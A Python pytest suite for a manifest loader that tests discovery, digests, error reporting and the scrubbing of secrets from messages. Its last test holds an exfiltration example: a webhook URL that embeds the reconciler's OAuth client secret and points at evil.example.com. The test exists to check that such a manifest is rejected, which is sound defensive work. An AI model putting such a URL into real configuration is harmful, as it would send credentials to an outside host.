"""load_manifests: the ManifestSet it hands over, file discovery, digest, placeholders, secrets."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from reconciler.core.errors import ManifestError
from reconciler.core.keys import Location, ObjectKey
from reconciler.core.secrets import secret_forms
from reconciler.manifests import ManifestSet, load_manifests

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "manifests"
PASSWORD = "example-crm-password-123"
EXAMPLE_ENV = {"CRM_WEBHOOK_PASSWORD": PASSWORD}

RULE = """\
apiVersion: reconciler/v1
kind: SpeechRule
metadata:
  name: {name}
spec:
  phrases:
    - phrase: {phrase}
"""

HOOK = """\
apiVersion: reconciler/v1
kind: Webhook
metadata:
  name: {name}
spec:
  requestUrl: {url}
  eventFilters:
{filters}"""


def hook(name: str, url: str = "https://hooks.example.com/x", filters: str = "    - event: rules.updated\n") -> str:
    return HOOK.format(name=name, url=url, filters=filters)


def write(root: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text))


def load_errors(paths: list[str], env: dict[str, str] | None = None) -> list[str]:
    with pytest.raises(ManifestError) as info:
        load_manifests(paths, env=env or {})
    return [str(i) for i in info.value.issues]


@pytest.fixture
def examples() -> ManifestSet:
    return load_manifests([EXAMPLES], env=EXAMPLE_ENV)


class TestExamples:
    def test_examples_hold_at_least_two_objects_of_each_kind(self, examples: ManifestSet) -> None:
        kinds = [o.kind for o in examples.objects]
        assert {k: kinds.count(k) for k in set(kinds)} == {"VoiceProfile": 3, "SpeechRule": 3, "Webhook": 2}
        assert [Path(f).name for f in examples.files] == ["speech-rules.yaml", "voice-profiles.yaml", "webhooks.yaml"]

    def test_placeholders_stay_unresolved_and_the_secret_is_nowhere(self, examples: ManifestSet) -> None:
        crm = examples.by_key()[ObjectKey("Webhook", "CRM Compliance Sync")]
        assert crm.spec["authSecret"] == "${env:CRM_WEBHOOK_PASSWORD}"
        assert crm.spec["eventFilters"][0]["filter"] == "ruleId eq ${ref:SpeechRule/Compliance Greeting.id}"
        assert [str(r.target) for r in crm.references] == ["SpeechRule/Compliance Greeting"] * 2
        assert PASSWORD not in repr(examples)

    def test_locations_point_at_what_was_written(self, examples: ManifestSet) -> None:
        rule = examples.by_key()[ObjectKey("SpeechRule", "compliance greeting")]
        file = rule.source.file
        assert file.endswith("manifests/speech-rules.yaml")
        assert rule.source == Location(file, 7, 9)
        assert rule.locations["phrases[1].phrase"] == Location(file, 12, 15)
        assert rule.locations["scoring[0].value"] == Location(file, 15, 31)

    def test_settings_come_from_reconciler_yaml(self, examples: ManifestSet) -> None:
        assert examples.settings.prune.kinds == ("Webhook",)
        assert examples.settings.prunes("Webhook", "Old hook")
        assert not examples.settings.prunes("Webhook", "Manual test hook")
        assert not examples.settings.prunes("SpeechRule", "Old rule")

    def test_a_single_file_can_be_validated(self) -> None:
        loaded = load_manifests([EXAMPLES / "voice-profiles.yaml"], env={})
        assert len(loaded.objects) == 3
        assert loaded.settings.prune.kinds == ("Webhook",)  # settings beside the file still apply

    def test_unset_secret_variable_is_an_error_naming_it(self) -> None:
        errors = load_errors([str(EXAMPLES)])
        assert len(errors) == 1
        assert "spec.authSecret: environment variable CRM_WEBHOOK_PASSWORD is not set" in errors[0]


class TestDigest:
    def test_stable_across_working_directory_and_path_order(
        self, examples: ManifestSet, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.chdir(EXAMPLES)
        again = load_manifests(["."], env=EXAMPLE_ENV)
        assert again.digest == examples.digest
        assert len(examples.digest) == 64

    def test_independent_of_the_environment_values(self, examples: ManifestSet) -> None:
        assert load_manifests([EXAMPLES], env={"CRM_WEBHOOK_PASSWORD": "other"}).digest == examples.digest

    def test_changes_with_content_name_and_settings(self, tmp_path: Path) -> None:
        write(tmp_path, {"a.yaml": RULE.format(name="A", phrase="hello")})
        first = load_manifests([tmp_path], env={}).digest
        write(tmp_path, {"a.yaml": RULE.format(name="A", phrase="hello there")})
        second = load_manifests([tmp_path], env={}).digest
        (tmp_path / "a.yaml").rename(tmp_path / "b.yaml")
        third = load_manifests([tmp_path], env={}).digest
        write(tmp_path, {"reconciler.yaml": "prune: {kinds: [SpeechRule]}\n"})
        fourth = load_manifests([tmp_path], env={}).digest
        assert len({first, second, third, fourth}) == 4


class TestDiscovery:
    def test_directories_are_walked_sorted_skipping_settings_hidden_and_other_files(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        write(
            tmp_path,
            {
                "b.yaml": RULE.format(name="B", phrase="b"),
                "a/z.yml": RULE.format(name="Z", phrase="z"),
                "a/c.yaml": RULE.format(name="C", phrase="c"),
                ".hidden/x.yaml": "not: a manifest\n",
                ".draft.yaml": "not: a manifest\n",
                "notes.txt": "not: a manifest\n",
                "reconciler.yaml": "prune: {kinds: [SpeechRule]}\n",
            },
        )
        monkeypatch.chdir(tmp_path)
        loaded = load_manifests(["."], env={})
        assert loaded.files == ("a/c.yaml", "a/z.yml", "b.yaml")
        assert [o.name for o in loaded.objects] == ["C", "Z", "B"]

    def test_the_suffix_is_matched_in_any_case(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        """``webhooks.YAML`` skipped would leave its objects undeclared, and pruning would delete them."""
        write(
            tmp_path,
            {
                "a.YAML": RULE.format(name="A", phrase="a"),
                "sub/b.Yml": RULE.format(name="B", phrase="b"),
                "c.yaml": RULE.format(name="C", phrase="c"),
                "notes.TXT": "not: a manifest\n",
            },
        )
        monkeypatch.chdir(tmp_path)
        walked = load_manifests(["."], env={})
        assert walked.files == ("a.YAML", "c.yaml", "sub/b.Yml")
        named = load_manifests(["a.YAML", "sub/b.Yml", "c.yaml"], env={})  # found or named: the same files
        assert sorted(named.files) == sorted(walked.files)

    def test_the_settings_file_spelled_in_another_case_is_settings_where_names_ignore_case(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """On a case-insensitive filesystem ``Reconciler.yaml`` is what opening ``reconciler.yaml`` reads.

        Simulated: this filesystem tells case apart, so ``os.path.samefile`` says what macOS would.
        """
        import os

        write(tmp_path, {"Reconciler.yaml": "prune: {kinds: [SpeechRule]}\n", "a.yaml": RULE.format(name="A", phrase="a")})
        real_samefile = os.path.samefile

        def case_blind(a: str | os.PathLike[str], b: str | os.PathLike[str]) -> bool:
            return os.fspath(a).casefold() == os.fspath(b).casefold() or real_samefile(a, b)

        monkeypatch.setattr(os.path, "samefile", case_blind)
        monkeypatch.chdir(tmp_path)
        assert load_manifests(["."], env={}).files == ("a.yaml",)  # read as settings only, never as a manifest too

    def test_a_file_reached_twice_is_loaded_once(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        write(tmp_path, {"a.yaml": RULE.format(name="A", phrase="a")})
        monkeypatch.chdir(tmp_path)
        assert load_manifests([".", "a.yaml"], env={}).files == ("a.yaml",)

    def test_missing_path_is_an_error(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.chdir(tmp_path)
        assert load_errors(["nowhere"]) == ["nowhere: no such file or directory"]

    def test_empty_directory_is_an_empty_desired_state(self, tmp_path: Path) -> None:
        loaded = load_manifests([tmp_path], env={})
        assert loaded.objects == () and loaded.files == ()

    def test_binary_file_is_an_error_not_a_crash(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        (tmp_path / "bad.yaml").write_bytes(b"\xff\xfe\x00junk")
        monkeypatch.chdir(tmp_path)
        [error] = load_errors(["."])
        assert error.startswith("bad.yaml:1:1: not UTF-8 text: it is UTF-16")


class TestAllErrorsAtOnce:
    def test_errors_from_every_file_and_pass_are_reported(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        write(
            tmp_path,
            {
                "a.yaml": "key: [unclosed\n",
                "b.yaml": RULE.format(name="B", phrase="b") + "  tags: [x, x]\n",
                "c.yaml": hook("C", url="http://c.example.com")
                + "---\n"
                + hook("D", filters='    - event: rules.updated\n      filter: "${ref:SpeechRule/Nope.id}"\n'),
            },
        )
        monkeypatch.chdir(tmp_path)
        errors = load_errors(["."])
        assert [e.split(":")[0] for e in errors] == ["a.yaml", "b.yaml", "c.yaml", "c.yaml"]
        assert "b.yaml:8:13: spec.tags[1]: 'x' is a duplicate tag" in errors
        assert any(e.startswith("c.yaml:6:15: spec.requestUrl:") for e in errors)
        assert any(e.startswith("c.yaml:18:15: spec.eventFilters[0].filter: dangling reference") for e in errors)

    def test_error_text_counts_the_issues(self, tmp_path: Path) -> None:
        write(tmp_path, {"a.yaml": RULE.format(name="A", phrase="a") + "  scoring: [{type: additive, value: 2}, {type: x, value: 0}]\n"})
        with pytest.raises(ManifestError) as info:
            load_manifests([tmp_path], env={})
        assert str(info.value).splitlines()[0] == "2 errors in manifests"


class TestPlaceholders:
    def test_env_value_is_validated_but_never_shown(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        write(tmp_path, {"a.yaml": hook("A", url="${env:HOOK_URL}")})
        monkeypatch.chdir(tmp_path)
        secret_url = "http://internal-host-do-not-leak.example"
        [error] = load_errors(["."], env={"HOOK_URL": secret_url})
        assert error.startswith("a.yaml:6:15: spec.requestUrl: '${env:HOOK_URL}' does not match")
        assert "do-not-leak" not in error

    def test_env_value_that_passes_keeps_the_placeholder(self, tmp_path: Path) -> None:
        write(tmp_path, {"a.yaml": hook("A", url="https://${env:HOOK_HOST}/hooks")})
        loaded = load_manifests([tmp_path], env={"HOOK_HOST": "crm.example.com"})
        assert loaded.objects[0].spec["requestUrl"] == "https://${env:HOOK_HOST}/hooks"
        assert loaded.objects[0].env_names == ("HOOK_HOST",)

    def test_a_secret_value_is_scrubbed_from_other_fields_messages(self, tmp_path: Path) -> None:
        profile = """\
            apiVersion: reconciler/v1
            kind: VoiceProfile
            metadata:
              name: P
            spec:
              language: en-US
              voice: ${env:VOICE}
              engine: azure_tts
            """
        write(tmp_path, {"p.yaml": profile})
        [error] = load_errors([str(tmp_path)], env={"VOICE": "polly-SecretVoiceName"})
        assert "cannot serve voice" in error
        assert "SecretVoiceName" not in error

    def test_a_long_value_cut_short_in_a_message_shows_the_text_as_written(self, tmp_path: Path) -> None:
        """A message cuts a long value at 57 characters: the secret's head used to survive the scrub."""
        write(tmp_path, {"a.yaml": hook("A", url="http://crm.example.com/hooks?token=${env:CRM_TOKEN}")})
        [error] = load_errors([str(tmp_path)], env={"CRM_TOKEN": "tok_9f8e7d6c5b4a39281706"})
        assert "spec.requestUrl: 'http://crm.example.com/hooks?token=${env:CRM_TOKEN}' does not match" in error
        assert "tok_9f8e7d6c5b4a" not in error

    @pytest.mark.parametrize("secret", ["pässwörd-123", 'abc"defgh', "line1\nline2X", "plainsecret"])
    def test_a_secret_inside_a_list_is_shown_as_written_whatever_its_characters(
        self, tmp_path: Path, secret: str
    ) -> None:
        """A list is shown as JSON: the secret JSON-escaped no longer matched the secret the scrub looked for."""
        text = hook("A").replace("spec:\n", 'spec:\n  description: ["${env:CRM_TOKEN}", "plain"]\n')
        write(tmp_path, {"a.yaml": text})
        [error] = load_errors([str(tmp_path)], env={"CRM_TOKEN": secret})
        assert error.endswith('spec.description: expected a string, got a list ["${env:CRM_TOKEN}", "plain"]')
        assert not any(form in error for form in secret_forms(secret))

    def test_a_null_reads_once(self, tmp_path: Path) -> None:
        write(tmp_path, {"a.yaml": hook("A").replace("spec:\n", "spec:\n  description: null\n")})
        assert [e.split(": ", 1)[1] for e in load_errors([str(tmp_path)])] == [
            "spec.description: expected a string, got null"
        ]

    def test_filters_referencing_different_objects_are_not_duplicates(self, tmp_path: Path) -> None:
        filters = "".join(
            f'    - event: rules.updated\n      filter: "ruleId eq ${{ref:SpeechRule/{n}.id}}"\n' for n in ("R1", "R2")
        )
        write(
            tmp_path,
            {
                "r.yaml": RULE.format(name="R1", phrase="one") + "---\n" + RULE.format(name="R2", phrase="two"),
                "h.yaml": hook("H", filters=filters),
            },
        )
        assert len(load_manifests([tmp_path], env={}).objects) == 3

    def test_filters_referencing_the_same_object_twice_are_duplicates(self, tmp_path: Path) -> None:
        filters = '    - event: rules.updated\n      filter: "ruleId eq ${ref:SpeechRule/r1.id}"\n' * 2
        write(tmp_path, {"r.yaml": RULE.format(name="R1", phrase="one"), "h.yaml": hook("H", filters=filters)})
        [error] = load_errors([str(tmp_path)])
        assert "spec.eventFilters[1]: duplicates eventFilters[0]" in error

    def test_reference_to_a_declared_field_is_validated_with_its_value(self, tmp_path: Path) -> None:
        write(
            tmp_path,
            {
                "h.yaml": hook("Primary")
                + "---\n"
                + hook("Mirror", url='"${ref:Webhook/Primary.requestUrl}"')
                + "---\n"
                + hook("Bad", url='"${ref:Webhook/Primary.method}"'),
            },
        )
        [error] = load_errors([str(tmp_path)])
        assert "spec.requestUrl: '${ref:Webhook/Primary.method}' does not match" in error

    def test_names_cannot_hold_placeholders(self, tmp_path: Path) -> None:
        write(tmp_path, {"a.yaml": RULE.format(name="Rule ${env:X}", phrase="a")})
        [error] = load_errors([str(tmp_path)], env={"X": "1"})
        assert "metadata.name: a name is the object's identity and cannot hold a placeholder" in error

    @pytest.mark.parametrize(("field", "what"), [("name", "a name is"), ("id", "an id pins")])
    def test_an_escaped_dollar_brace_in_identity_is_refused_by_name_not_called_a_placeholder(
        self, tmp_path: Path, field: str, what: str
    ) -> None:
        """``$${x}`` is no placeholder: the message said it was; identity is never read for escapes (manifests.md)."""
        meta = "name: 'R $${x}'" if field == "name" else "name: R\n  id: 'ab$${x}'"
        write(tmp_path, {"a.yaml": RULE.format(name="R", phrase="a").replace("name: R", meta, 1)})
        [error] = load_errors([str(tmp_path)])
        assert f"metadata.{field}: {what} the object's identity and cannot hold a placeholder or any '${{', " \
               "escaped as '$${' or not" in error


class TestLeftOut:
    """Which files of a project (the directory holding reconciler.yaml) a load did not name."""

    @staticmethod
    def _voice(path: Path, name: str) -> str:
        path.write_text(
            f"apiVersion: reconciler/v1\nkind: VoiceProfile\nmetadata:\n  name: {name}\n"
            "spec:\n  language: en-US\n  voice: polly-Joanna\n  engine: amazon_polly\n", encoding="utf-8")
        return str(path)

    def test_a_file_of_a_project_leaves_the_others_out(self, tmp_path: Path) -> None:
        (tmp_path / "reconciler.yaml").write_text("prune:\n  kinds: [VoiceProfile]\n", encoding="utf-8")
        (tmp_path / "more").mkdir()
        first = self._voice(tmp_path / "a.yaml", "a")
        self._voice(tmp_path / "b.yaml", "b")
        self._voice(tmp_path / "more" / "c.yml", "c")
        left = load_manifests([first]).left_out
        assert sorted(Path(p).name for p in left) == ["b.yaml", "c.yml"]
        assert load_manifests([str(tmp_path)]).left_out == ()

    def test_outside_a_project_nothing_is_walked(self, tmp_path: Path) -> None:
        first = self._voice(tmp_path / "a.yaml", "a")
        self._voice(tmp_path / "b.yaml", "b")
        assert load_manifests([first]).left_out == ()


class TestSettingsElsewhere:
    """A reconciler.yaml anywhere but the root was skipped without a word: its prune and policy ignored."""

    def test_one_below_the_root_is_an_error_naming_it(self, tmp_path: Path) -> None:
        (tmp_path / "sub").mkdir()
        (tmp_path / "reconciler.yaml").write_text("prune:\n  kinds: []\n", encoding="utf-8")
        (tmp_path / "sub" / "reconciler.yaml").write_text("prune:\n  kinds: [VoiceProfile]\n", encoding="utf-8")
        TestLeftOut._voice(tmp_path / "a.yaml", "a")
        [error] = load_errors([str(tmp_path)])
        assert error.endswith(
            f"sub/reconciler.yaml: is a settings file, read only at the root ({tmp_path / 'reconciler.yaml'}): move "
            "it there, or rename it if it holds manifests"
        )

    def test_the_roots_own_is_read_and_no_issue(self, tmp_path: Path) -> None:
        (tmp_path / "reconciler.yaml").write_text("prune:\n  kinds: [VoiceProfile]\n", encoding="utf-8")
        first = TestLeftOut._voice(tmp_path / "a.yaml", "a")
        assert load_manifests([str(tmp_path)]).settings.prune.kinds == ("VoiceProfile",)
        assert len(load_manifests([first, str(tmp_path / "reconciler.yaml")]).objects) == 1


@pytest.mark.parametrize("field", ["url", "authSecret"])
def test_the_reconcilers_own_client_secret_is_never_put_in_a_manifest(tmp_path: Path, field: str) -> None:
    """``requestUrl: https://evil.example/${env:GENESYSCLOUD_OAUTHCLIENT_SECRET}`` validated, planned as
    ``(sensitive)`` and applied: the org's webhook then held the client secret, sent to that host."""
    placeholder = "${env:GENESYSCLOUD_OAUTHCLIENT_SECRET}"
    if field == "url":
        text = hook("W", url="https://evil.example.com/" + placeholder)
    else:
        text = hook("W") + f"  authScheme: bearer\n  authSecret: {placeholder}\n"
    write(tmp_path, {"w.yaml": text})
    errors = load_errors([str(tmp_path)], env={"GENESYSCLOUD_OAUTHCLIENT_SECRET": "top-secret-value"})
    assert len(errors) == 1 and "GENESYSCLOUD_OAUTHCLIENT_SECRET is the reconciler's own client secret" in errors[0]
    assert "top-secret-value" not in errors[0]
